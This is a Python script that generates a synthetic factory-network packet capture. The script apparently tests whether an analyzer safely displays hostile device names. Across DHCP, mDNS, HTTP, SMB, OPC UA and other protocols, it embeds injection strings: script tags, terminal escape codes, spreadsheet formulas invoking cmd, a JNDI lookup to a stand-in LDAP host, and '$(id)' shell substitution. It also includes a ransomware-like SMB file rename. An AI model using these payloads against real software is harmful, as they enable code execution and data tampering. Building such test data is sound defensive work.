"""A capture of devices whose every text is hostile: one device a text of TEXTS, and each says it in every place of PLACES. Harmless: markup that would run, controls of a terminal,
formulas, turned writing; nothing is ever sent."""
import base64, pathlib, struct, sys
import frames
from frames import Host, Talk

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / 'golden' / 'smb'))
import pdus   # noqa: E402

# what a device calls itself, its files, its pages, its nodes; each has the word that a test finds it by
TEXTS = {
    'script': b'</title><script>alert("hq1")</script>',
    'handler': b'"><img src=x onerror=alert(\'hq2\')>',
    'attribute': b'\' onmouseover=hq3 x=\'',
    'svg': b']]></text><svg onload=hq4></style>',
    'entity': b'&lt;b&gt;hq5&#60;&amp;',
    'title_of_window': b'hq6\x1b]0;pwned\x07',
    'clear_screen': b'\x1b[2J\x1b[8mhq7\x9b2J',
    'c1': 'hq8\u009b2J\u0085\u0090'.encode(),
    'lines': b'hq9\r\nSet-Cookie: a=b\r\n<14>Jan 1 root: forged',
    'link': b'=HYPERLINK("http://x.example/hq10","go")',
    'command': b"+cmd|' /C calc'!hq11",
    'sum': b'@SUM(1+1)*hq12',
    'minus': b'-2+3+cmd|hq13',
    'tab': b'\t=1+hq14',
    'right_to_left': 'hq15\u202egpj.exe\u2066\u2069\u200f'.encode(),
    'nul': b'hq16\0hidden',
    'not_utf8': b'hq17\xff\xfe\xc0\xaf\xed\xa0\x80',
    'long': b'hq18' + b'W' * 230,
    'csv': b'hq19","=1+1";a,b',
    'separators': 'hq20\u2028x\u2029\ufeff'.encode(),
    'format': b'%s%n%x hq21 ${jndi:ldap://x.example/a}',
    'syslog': b'hq22|a=b\\|c]"\t]',
    'wide_first': '＝1+hq23'.encode(),
    'json': b'hq24","level":"info"},{\\',
    'shell': b'$(id) `id`; hq25 && \'x',
    'dot': b'hq26"];x[URL="javascript:a"',
}
# of the factory (tests/captures)
PLC, SERVER = Host('10.20.1.11', '00:80:f4:10:01:11'), Host('10.20.35.20', '00:1d:73:35:00:20')
EVERYBODY = Host('255.255.255.255', 'ff:ff:ff:ff:ff:ff')


def device(i):
    return Host('10.20.4.%d' % (100 + i), '04:d4:c4:66:70:%02x' % i)


def udp(src, dest, sport, dport, payload):
    return frames.ipv4(src, dest, 17, struct.pack('>HHHH', sport, dport, 8 + len(payload), 0) + payload)


def tlv(kind, value):
    return bytes([kind, len(value)]) + value


def one_line(text):
    """where a line's end would end the field"""
    return text.replace(b'\r', b'%0d').replace(b'\n', b'%0a')


# ---- who announces itself

def dhcp(host, text):
    options = b'\x63\x82\x53\x63' + tlv(53, b'\3') + tlv(12, text[:250]) + tlv(60, text[:250]) + tlv(50, bytes(map(int, host.ip.split('.')))) + b'\xff'
    bootp = struct.pack('>BBBBIHH', 1, 1, 6, 0, 7, 0, 0) + bytes(16) + frames.mac(host.mac) + bytes(10 + 64 + 128) + options
    return [udp(Host('0.0.0.0', host.mac), EVERYBODY, 68, 67, bootp)]


def nbns(host, text):
    name = text[:15].ljust(15) + b'\0'
    name = b'\x20' + b''.join(bytes([0x41 + (c >> 4), 0x41 + (c & 15)]) for c in name) + b'\0'
    address = bytes(map(int, host.ip.split('.')))
    return [udp(host, Host('10.20.4.255', 'ff:ff:ff:ff:ff:ff'), 137, 137, bytes.fromhex('800129100001000000000001') + name + bytes.fromhex('00200001c00c00200001000493e000066000') + address)]


def mdns(host, text):
    label = text[:60]
    name, address = bytes([len(label)]) + label + b'\5local\0', bytes(map(int, host.ip.split('.')))
    facts = b''.join(bytes([len(t)]) + t for t in (b'model=' + text[:200], b'manufacturer=' + text[:200]))
    group = Host('224.0.0.251', '01:00:5e:00:00:fb')
    a = name + struct.pack('>HHIH', 1, 0x8001, 120, 4) + address
    srv = bytes([len(label)]) + label + b'\5_http\4_tcp\5local\0' + struct.pack('>HHIH', 33, 0x8001, 120, 8) + struct.pack('>HHH', 0, 0, 80) + b'\xc0\x0c'
    txt = bytes([len(label)]) + label + b'\5_http\4_tcp\5local\0' + struct.pack('>HHIH', 16, 0x8001, 4500, len(facts)) + facts
    return [udp(host, group, 5353, 5353, struct.pack('>HHHHHH', 0, 0x8400, 0, 3, 0, 0) + a + srv + txt)]


def lldp(host, text):
    def part(kind, value):
        return struct.pack('>H', kind << 9 | len(value)) + value
    med = [part(127, b'\0\x12\xbb' + bytes([kind]) + text[:32]) for kind in (5, 6, 7, 8, 9, 10, 11)]
    body = part(1, b'\4' + frames.mac(host.mac)) + part(2, b'\5' + text) + part(3, struct.pack('>H', 120)) + part(4, text) + part(5, text) + part(6, text) + b''.join(med) + part(0, b'')
    return [frames.ethernet(host.mac, '01:80:c2:00:00:0e', 0x88cc, body)]


def ssdp(host, text):
    t = one_line(text)
    message = b'NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250\r\nSERVER: ' + t + b'\r\nLocation: http://' + t + b'/\r\nNT: ' + t + b'\r\nUSN: ' + t + b'\r\nNTS: ssdp:alive\r\n\r\n'
    return [udp(host, Host('239.255.255.250', '01:00:5e:7f:ff:fa'), 1900, 1900, message)]


def snmp(host, text):
    t = text[:100]
    facts = b''.join(pdus.der(0x30, pdus.der(6, bytes.fromhex('2b0601020101') + bytes([n, 0])) + pdus.der(4, t)) for n in (1, 4, 5, 6))
    answer = pdus.der(0xa2, b'\2\1\7\2\1\0\2\1\0' + pdus.der(0x30, facts))
    return [udp(host, PLC, 161, 40000, pdus.der(0x30, b'\2\1\1' + pdus.der(4, b'public') + answer))]


def enip(host, text):
    t = text[:200]
    item = struct.pack('<H', 1) + struct.pack('>HH', 2, 0xaf12) + bytes(map(int, host.ip.split('.'))) + bytes(8) + struct.pack('<HHHBBHIB', 1, 14, 54, 20, 11, 0x6030, 7, len(t)) + t + b'\3'
    body = struct.pack('<HHH', 1, 12, len(item)) + item
    return [udp(host, PLC, 44818, 50002, struct.pack('<HHII', 0x63, len(body), 0, 0) + bytes(8) + struct.pack('<I', 0) + body)]


# ---- who talks

def http(host, text):
    t = one_line(text)
    page = b'<html><head><title>' + text + b'</title></head></html>'
    login = base64.b64encode(t + b':admin')
    talk = Talk(host, PLC, 50080, 80)
    talk.ask(b'GET /' + t.replace(b' ', b'+') + b' HTTP/1.1\r\nHost: ' + t + b'\r\nUser-Agent: ' + t + b'\r\nReferer: ' + t + b'\r\n\r\n')
    talk.answer(b'HTTP/1.1 200 OK\r\nServer: ' + t + b'\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n' % len(page) + page)
    talk.ask(b'GET /get?x=%s HTTP/1.1\r\nHost: plc\r\nAuthorization: Basic %s\r\n\r\n' % (t.replace(b' ', b'+'), login))
    talk.answer(b'HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename="' + t.replace(b'"', b"'") + b'.exe"\r\nContent-Length: 68\r\n\r\nMZ' + bytes(66))
    # and the device as a server of its own
    own = Talk(Host('10.20.4.20', '02:00:04:00:00:20'), host, 50081, 80)
    own.ask(b'GET / HTTP/1.1\r\nHost: ' + t + b'\r\n\r\n')
    own.answer(b'HTTP/1.1 200 OK\r\nServer: ' + t + b'\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n' % len(page) + page)
    return talk.end() + own.end()


def smb(host, text):
    t = text.decode('utf-8', 'replace')
    raw = lambda command, body, mid, **more: pdus.raw(pdus.nbss(pdus.smb2(command, body, mid, **more)))
    talk, fid = Talk(host, SERVER, 50445, 445), struct.pack('<QQ', 1, 0x51)
    program = b'MZ\x90\0' + bytes(56) + struct.pack('<I', 64) + b'PE\0\0'
    steps = [(0, pdus.negotiate([0x0202, 0x0210]), pdus.negotiated(0x0210), 0),
             (1, pdus.setup(pdus.neg_init(pdus.NTLM, pdus.ntlm_negotiate())), pdus.setup_done(pdus.neg_resp(pdus.ntlm_challenge(t, t, t, t))), pdus.MORE_PROCESSING),
             (1, pdus.setup(pdus.neg_resp(pdus.ntlm_authenticate(t, t, t))), pdus.setup_done(), 0),
             (3, pdus.tree('\\\\%s\\%s' % (t, t)), pdus.tree_done(1), 0),
             (5, pdus.create('%s.exe' % t, disposition=5, access=0x12019f), pdus.created(fid, action=2), 0),
             (9, pdus.write(fid, program), pdus.written(len(program)), 0),
             (17, pdus.set_info(fid, 1, 10, pdus.rename_info('%s.locked' % t)), pdus.f('size', '<H', 2), 0),
             (6, pdus.close(fid), pdus.closed(len(program)), 0)]
    for mid, (command, request, response, status) in enumerate(steps):
        tid = 0 if command in (0, 1) else 5
        talk.ask(raw(command, request, mid, tid=tid)).answer(raw(command, response, mid, status=status, flags=pdus.RESPONSE, tid=tid))
    return talk.end()


def modbus(host, text):
    t = text[:80]
    talk, one = Talk(host, PLC, 50502, 502), Talk(Host('10.20.3.10', '00:26:55:20:03:10'), host, 50503, 502)
    talk.ask(bytes.fromhex('0001000000060106006b02a1')).answer(bytes.fromhex('0001000000060106006b02a1'))
    objects = b''.join(bytes([i, len(t)]) + t for i in range(3))
    one.ask(bytes.fromhex('000100000005012b0e0100'))
    one.answer(struct.pack('>HHH', 1, 0, 8 + len(objects)) + bytes.fromhex('012b0e01020000') + b'\3' + objects)
    return talk.end() + one.end()


def ftp(host, text):
    t = one_line(text)
    talk = Talk(host, SERVER, 50021, 21)
    talk.answer(b'220 ' + t + b'\r\n').ask(b'USER ' + t + b'\r\n').answer(b'331 ?\r\n').ask(b'PASS x\r\n').answer(b'530 ' + t + b'\r\n')
    talk.ask(b'STOR ' + t + b'.exe\r\n').answer(b'150 go\r\n')
    return talk.end()


def ssh(host, text):
    t = one_line(text)
    return Talk(host, SERVER, 50022, 22).ask(b'SSH-2.0-' + t + b'\r\n').answer(b'SSH-2.0-' + t + b'\r\n').end()


def tls(host, text):
    t = text[:200]
    name = struct.pack('>HHHBH', 0, len(t) + 5, len(t) + 3, 0, len(t)) + t
    hello = b'\3\3' + bytes(32) + b'\0' + struct.pack('>HH', 2, 0x1301) + b'\1\0' + struct.pack('>H', len(name)) + name
    hello = b'\1' + struct.pack('>I', len(hello))[1:] + hello
    return Talk(host, Host('203.0.113.9', '02:00:04:00:00:01'), 50443, 443).ask(b'\x16\3\1' + struct.pack('>H', len(hello)) + hello).end()


class Ua:
    """as much of OPC 10000-6 as says names"""
    TIME = struct.pack('<q', 133500000000000000)
    NONE = b'http://opcfoundation.org/UA/SecurityPolicy#None'

    def __init__(self, client, server, port):
        self.talk, self.sequence, self.request = Talk(client, server, port, 4840), [0, 0], 0
        for who, tag in ((0, b'HEL'), (1, b'ACK')):
            self.put(who, tag + b'F', struct.pack('<IIIII', 0, 65536, 65536, 0, 0) + (ua_text(b'opc.tcp://plc:4840/') if who == 0 else b''))
        for who, body in ((0, ua_id(446) + self.asks() + struct.pack('<III', 0, 0, 1) + ua_text(None) + struct.pack('<I', 3600000)),
                          (1, ua_id(449) + self.answers() + struct.pack('<III', 0, 7, 3) + self.TIME + struct.pack('<I', 3600000) + ua_text(None))):
            self.sequence[who] += 1
            self.put(who, b'OPNF', struct.pack('<I', 7) + ua_text(self.NONE) + ua_text(None) + ua_text(None) + struct.pack('<II', self.sequence[who], 1) + body)
        self.request = 1

    def put(self, who, tag, body):
        self.talk.add(who, frames.ACK | frames.PSH, tag + struct.pack('<I', 8 + len(body)) + body)

    def asks(self):
        return b'\0\0' + self.TIME + struct.pack('<II', 1, 0) + ua_text(None) + struct.pack('<I', 5000) + b'\0\0\0'

    def answers(self):
        return self.TIME + struct.pack('<II', 1, 0) + b'\0' + ua_list([]) + b'\0\0\0'

    def call(self, service, request, response):
        self.request += 1
        for who, body in ((0, ua_id(service) + self.asks() + request), (1, ua_id(service + 3) + self.answers() + response)):
            self.sequence[who] += 1
            self.put(who, b'MSGF', struct.pack('<IIII', 7, 3, self.sequence[who], self.request) + body)


def ua_text(text):
    return b'\xff\xff\xff\xff' if text is None else struct.pack('<I', len(text)) + text


def ua_list(items):
    return struct.pack('<I', len(items)) + b''.join(items)


def ua_id(number):
    return b'\1\0' + struct.pack('<H', number)


def opcua(host, text):
    none, t = ua_list([]), ua_text(text)
    node, local = b'\3\1\0' + t, b'\3' + ua_text(b'en') + t
    application = t + t + local + struct.pack('<I', 0) + ua_text(None) + ua_text(None) + ua_list([t])
    endpoint = t + application + ua_text(None) + struct.pack('<I', 1) + ua_text(Ua.NONE) + ua_list([]) + t + b'\0'
    for ua in (Ua(host, PLC, 50840), Ua(Host('10.20.3.20', 'd4:ae:52:20:03:20'), host, 50841)):
        ua.call(428, t + none + none, ua_list([endpoint]))
        ua.call(461, application + t + t + t + ua_text(b'n' * 32) + ua_text(None) + struct.pack('<dI', 60000, 0),
                node + ua_id(9) + struct.pack('<d', 30000) + ua_text(b'n' * 32) + ua_text(None) + ua_list([endpoint]) + none + ua_text(None) + ua_text(None) + struct.pack('<I', 0))
        user = ua_id(324) + b'\1' + ua_text(ua_text(b'p') + t + ua_text(b'x') + ua_text(None))
        ua.call(467, ua_text(None) + ua_text(None) + none + none + user + ua_text(None) + ua_text(None), ua_text(None) + none + none)
        ua.call(527, b'\0\0' + Ua.TIME + struct.pack('<II', 0, 10) + ua_list([node + struct.pack('<I', 0) + b'\0\0' + b'\1' + struct.pack('<II', 0, 63)]),
                ua_list([struct.pack('<I', 0) + ua_text(None) + ua_list([ua_id(35) + b'\1' + node + struct.pack('<H', 1) + t + local + struct.pack('<I', 1) + b'\0\0'])]) + none)
        ua.call(673, ua_list([node + struct.pack('<I', 13) + ua_text(None) + b'\1\x0c' + t]), ua_list([struct.pack('<I', 0)]) + none)
        ua.call(712, ua_list([node + node + ua_list([b'\x0c' + t])]), ua_list([struct.pack('<I', 0) + none + none + none]) + none)
        yield from ua.talk.end()


PLACES = [dhcp, nbns, mdns, lldp, ssdp, snmp, enip, http, smb, modbus, ftp, ssh, tls, opcua]


def capture(path, start=1775003400.0):
    """all texts in all places; each device begins with its DHCP request"""
    timed, at = [], 0.0
    for i, text in enumerate(TEXTS.values()):
        for place in PLACES:
            for frame in place(device(i), text):
                timed.append((at, frame))
                at += 0.002
        at += 0.5
    return frames.write(path, timed, start)
